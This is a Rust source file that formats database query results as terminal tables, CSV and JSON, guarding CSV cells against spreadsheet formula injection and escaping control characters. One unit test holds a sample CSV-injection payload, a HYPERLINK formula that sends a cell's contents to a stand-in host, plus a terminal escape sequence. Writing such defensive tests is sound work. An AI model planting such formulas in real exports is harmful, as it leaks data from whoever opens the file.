//! Writing results as an aligned table (fitted to the terminal), CSV or JSON.

use rusqlite::types::Value;
use unicode_width::UnicodeWidthStr;

use super::run::Rows;
use crate::error::Result;
use crate::output;

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    /// Aligned columns for people, cut to the terminal's width
    Table,
    /// RFC 4180 CSV with a header line, for spreadsheets: a text cell a spreadsheet would run
    /// as a formula (starting with =, +, -, @, tab or CR) gets a leading ' so it shows as
    /// text; control characters other than line breaks are written as \xNN
    Csv,
    /// The same CSV without the leading ', for scripts that want the values as they are
    CsvRaw,
    /// An array of objects, one per row
    Json,
}

/// Writes `rows`. `width` is the terminal's width when stdout is one (tables are cut to fit),
/// `None` otherwise.
pub fn write_rows(rows: &Rows, format: Format, width: Option<usize>) -> Result<()> {
    let text = match format {
        Format::Table => table(rows, width),
        Format::Csv => csv(rows, true),
        Format::CsvRaw => csv(rows, false),
        Format::Json => json(rows)?,
    };
    output::write_bytes(text.as_bytes())
}

/// A value as text: what tables, CSV and the HTML report show.
pub fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::Integer(i) => i.to_string(),
        Value::Real(r) => r.to_string(),
        Value::Text(t) => t.clone(),
        Value::Blob(b) => format!("<{} bytes>", b.len()),
    }
}

/// One line per row: control characters (line breaks in SMS texts) become spaces.
fn flat(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

fn table(rows: &Rows, width: Option<usize>) -> String {
    let header: Vec<String> = rows.columns.iter().map(|c| flat(c)).collect();
    let body: Vec<Vec<String>> = rows
        .rows
        .iter()
        .map(|r| r.iter().map(|v| flat(&cell(v))).collect())
        .collect();
    let mut widths: Vec<usize> = header.iter().map(|h| h.width()).collect();
    for row in &body {
        for (w, c) in widths.iter_mut().zip(row) {
            *w = (*w).max(c.width());
        }
    }
    if let Some(limit) = width {
        fit(&mut widths, limit);
    }
    let numeric: Vec<bool> = (0..widths.len())
        .map(|i| {
            rows.rows
                .iter()
                .all(|r| matches!(r[i], Value::Integer(_) | Value::Real(_) | Value::Null))
        })
        .collect();
    let mut out = String::new();
    let line = |cells: &[String], out: &mut String| {
        let parts: Vec<String> = cells
            .iter()
            .zip(&widths)
            .zip(&numeric)
            .map(|((c, w), right)| pad(&cut(c, *w), *w, *right))
            .collect();
        out.push_str(parts.join("  ").trim_end());
        out.push('\n');
    };
    line(&header, &mut out);
    let rule: Vec<String> = widths.iter().map(|w| "-".repeat(*w)).collect();
    line(&rule, &mut out);
    for row in &body {
        line(row, &mut out);
    }
    out
}

/// Shrinks the widest columns until the row (with two spaces between columns) fits `limit`,
/// keeping every column at least 6 wide.
fn fit(widths: &mut [usize], limit: usize) {
    let total = |w: &[usize]| w.iter().sum::<usize>() + 2 * w.len().saturating_sub(1);
    while total(widths) > limit {
        let Some((i, &widest)) = widths.iter().enumerate().max_by_key(|(_, w)| **w) else {
            return;
        };
        if widest <= 6 {
            return;
        }
        widths[i] = widest - 1;
    }
}

fn cut(text: &str, width: usize) -> String {
    if text.width() <= width {
        return text.to_string();
    }
    let mut out = String::new();
    let mut used = 0;
    for c in text.chars() {
        let w = unicode_width::UnicodeWidthChar::width(c).unwrap_or(0);
        if used + w + 1 > width {
            break;
        }
        out.push(c);
        used += w;
    }
    out.push('…');
    out
}

fn pad(text: &str, width: usize, right: bool) -> String {
    let fill = " ".repeat(width.saturating_sub(text.width()));
    if right {
        format!("{fill}{text}")
    } else {
        format!("{text}{fill}")
    }
}

fn csv(rows: &Rows, guard_formulas: bool) -> String {
    let field = |text: &str| {
        if text.contains([',', '"', '\n', '\r']) {
            format!("\"{}\"", text.replace('"', "\"\""))
        } else {
            text.to_string()
        }
    };
    let text_cell = |value: &Value| {
        let text = output::terminal_safe(&cell(value)).into_owned();
        let runs = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
        if guard_formulas && matches!(value, Value::Text(_)) && runs {
            format!("'{text}")
        } else {
            text
        }
    };
    let mut out = String::new();
    let mut line = |cells: Vec<String>| {
        out.push_str(&cells.iter().map(|c| field(c)).collect::<Vec<_>>().join(","));
        out.push_str("\r\n");
    };
    line(
        rows.columns
            .iter()
            .map(|c| output::terminal_safe(c).into_owned())
            .collect(),
    );
    for row in &rows.rows {
        line(row.iter().map(text_cell).collect());
    }
    out
}

fn json(rows: &Rows) -> Result<String> {
    let objects: Vec<serde_json::Map<String, serde_json::Value>> = rows
        .rows
        .iter()
        .map(|row| {
            rows.columns
                .iter()
                .zip(row)
                .map(|(name, value)| {
                    let v = match value {
                        Value::Null => serde_json::Value::Null,
                        Value::Integer(i) => (*i).into(),
                        Value::Real(r) => serde_json::Number::from_f64(*r)
                            .map(serde_json::Value::Number)
                            .unwrap_or(serde_json::Value::Null),
                        Value::Text(t) => t.clone().into(),
                        Value::Blob(b) => b.len().into(),
                    };
                    (name.clone(), v)
                })
                .collect()
        })
        .collect();
    let mut text = serde_json::to_string_pretty(&objects)
        .map_err(|e| crate::error::Error::io(format!("cannot encode JSON: {e}")))?;
    text.push('\n');
    Ok(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Rows {
        Rows {
            columns: vec!["name".into(), "calls".into()],
            rows: vec![
                vec![
                    Value::Text("Jürgen \"JJ\", Müller".into()),
                    Value::Integer(12),
                ],
                vec![Value::Text("a\nb".into()), Value::Null],
            ],
        }
    }

    #[test]
    fn tables_align_and_fit() {
        let text = table(&sample(), None);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 4);
        assert!(lines[0].starts_with("name"));
        assert!(lines[3].starts_with("a b"), "{text}");
        let narrow = table(&sample(), Some(16));
        assert!(narrow.lines().all(|l| l.width() <= 16), "{narrow}");
        assert!(narrow.contains('…'));
    }

    #[test]
    fn csv_neutralises_formulas_and_control_characters() {
        let rows = Rows {
            columns: vec!["text".into(), "n".into()],
            rows: vec![
                vec![
                    Value::Text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".into()),
                    Value::Integer(-5),
                ],
                vec![Value::Text("+4930123".into()), Value::Real(-1.5)],
                vec![Value::Text("bell\u{7} esc\u{1b}[2J".into()), Value::Null],
            ],
        };
        let guarded = csv(&rows, true);
        assert!(guarded.contains("\"'=HYPERLINK"), "{guarded}");
        assert!(guarded.contains("'+4930123,-1.5"), "{guarded}");
        assert!(
            guarded.contains(",-5\r\n"),
            "numbers stay numbers: {guarded}"
        );
        assert!(guarded.contains("bell\\x07 esc\\x1b[2J"), "{guarded}");
        assert!(!guarded.contains('\u{1b}'));
        let raw = csv(&rows, false);
        assert!(
            raw.contains("\"=HYPERLINK") && raw.contains("\n+4930123,"),
            "{raw}"
        );
    }

    #[test]
    fn csv_quotes_what_needs_it() {
        assert_eq!(
            csv(&sample(), true),
            "name,calls\r\n\"Jürgen \"\"JJ\"\", Müller\",12\r\n\"a\nb\",\r\n"
        );
    }

    #[test]
    fn json_keeps_types() {
        let value: serde_json::Value = serde_json::from_str(&json(&sample()).unwrap()).unwrap();
        assert_eq!(value[0]["calls"], 12);
        assert!(value[1]["calls"].is_null());
    }
}
